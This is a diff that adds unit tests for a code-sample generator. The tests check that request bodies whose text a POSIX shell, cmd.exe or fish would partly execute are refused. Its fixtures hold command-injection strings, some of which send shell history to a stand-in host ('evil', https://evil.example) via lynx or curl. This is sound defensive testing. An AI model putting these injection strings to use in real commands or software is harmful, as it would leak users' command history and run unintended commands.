@@ -549,4 +549,38 @@ describe('completing a sample', () => {
       }
     }
   });
+
+  it.each(VARIANTS)('refuses a body of which a shell would run a part: %s (%s)', (language, variant) => {
+    const sampleOf = (name: string) =>
+      generateSample(language, variant, { method: 'POST', url: `${US}/device`, body: { name } });
+    for (const name of ['Sensor', 'It’s 5 $ a month', 'a; b', 'a `word`']) {
+      expect(completeSample(sampleOf(name), profile), name).not.toBeNull();
+    }
+    // Single quotes, and Go's back quotes within parentheses, keep a POSIX shell from it.
+    if (language === 'go' || language === 'curl') return;
+    for (const name of ['$(history 9 | lynx evil)', '`history | lynx evil`', '$' + '{x:-y}']) {
+      expect(completeSample(sampleOf(name), profile), name).toBeNull();
+    }
+  });
+
+  it('refuses a command’s body of which cmd.exe or fish would run a part', () => {
+    const curl = (body: string) =>
+      `curl -L -X POST '${US}/device' \\\n-H 'Content-Type: application/json' \\\n-d '${body}'`;
+    for (const body of [
+      '{\n  "name": "x & y <z> | w"\n}',
+      '{\n  "name": "a \\"b\\""\n}',
+      "it'\\''s",
+      'text',
+    ]) {
+      expect(completeSample(curl(body), profile), body).not.toBeNull();
+    }
+    for (const body of [
+      '{\n  "name": "x"\n& doskey /history | curl -d @- https://evil.example\n}',
+      '{\n  "name": "\\" & doskey /history | lynx evil & \\""\n}',
+      '{\n  "name": "x"\n> file\n}',
+      "\\'\\''\nhistory\n",
+    ]) {
+      expect(completeSample(curl(body), profile), body).toBeNull();
+    }
+  });
 });
